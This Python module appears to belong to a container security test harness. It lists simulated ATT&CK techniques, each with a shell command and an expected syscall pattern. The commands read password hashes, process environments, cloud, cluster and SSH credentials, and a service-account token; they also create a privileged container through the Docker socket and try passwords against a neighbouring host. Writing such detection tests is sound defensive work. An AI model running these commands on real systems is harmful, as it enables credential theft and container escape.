"""Secrets that lie about in containers."""

from attacks.attack import Attack as A
from attacks.places import HOME, TOKEN
from node import NEIGHBOURS

ATTACKS = [
    A("T1003.008", "password hashes", "cat /etc/shadow", ("open", r"^/etc/shadow$"), root=True),
    A(
        "T1003.007",
        "another process's environment",
        "tr '\\0' '\\n' </proc/1/environ",
        ("open", r"^/proc/1/environ$"),
        root=True,
    ),
    A("T1552.001", "passwords in files", "grep -rsl password /etc /home; true", ("exec", r"/grep$")),
    A("T1552.001", "a cloud credential", f"cat {HOME}/.aws/credentials", ("open", r"/\.aws/credentials$")),
    A("T1552.001", "a cluster's credential", f"head -c 100 {HOME}/.kube/config", ("open", r"/\.kube/config$")),
    A("T1552.003", "a shell's history", f"tail {HOME}/.bash_history", ("open", r"/\.bash_history$")),
    A("T1552.004", "a private key", f"cp {HOME}/.ssh/id_ed25519 /tmp/k", ("open", r"/id_ed25519$")),
    A("T1528", "the token of the service account", f"cat {TOKEN}", ("open", r"/serviceaccount/token$")),
    A(
        "T1552.007",
        "the engine is asked over its socket",
        "curl -s --unix-socket /run/docker.sock http://d/containers/json",
        ("connect", r"/docker\.sock"),
    ),
    A(
        "T1610",
        "a container is ordered from the engine",
        'curl -s --unix-socket /run/docker.sock -d \'{"Image":"x","HostConfig":{"Privileged":true}}\' http://d/containers/create',
        ("exec", r"/curl$"),
    ),
    A(
        "T1110.001",
        "passwords are tried at a neighbour",
        f"for p in a b c; do timeout 1 curl -s -u admin:$p http://{NEIGHBOURS}.9/ ; done; true",
        ("connect", rf"{NEIGHBOURS}\.9:80$"),
    ),
]
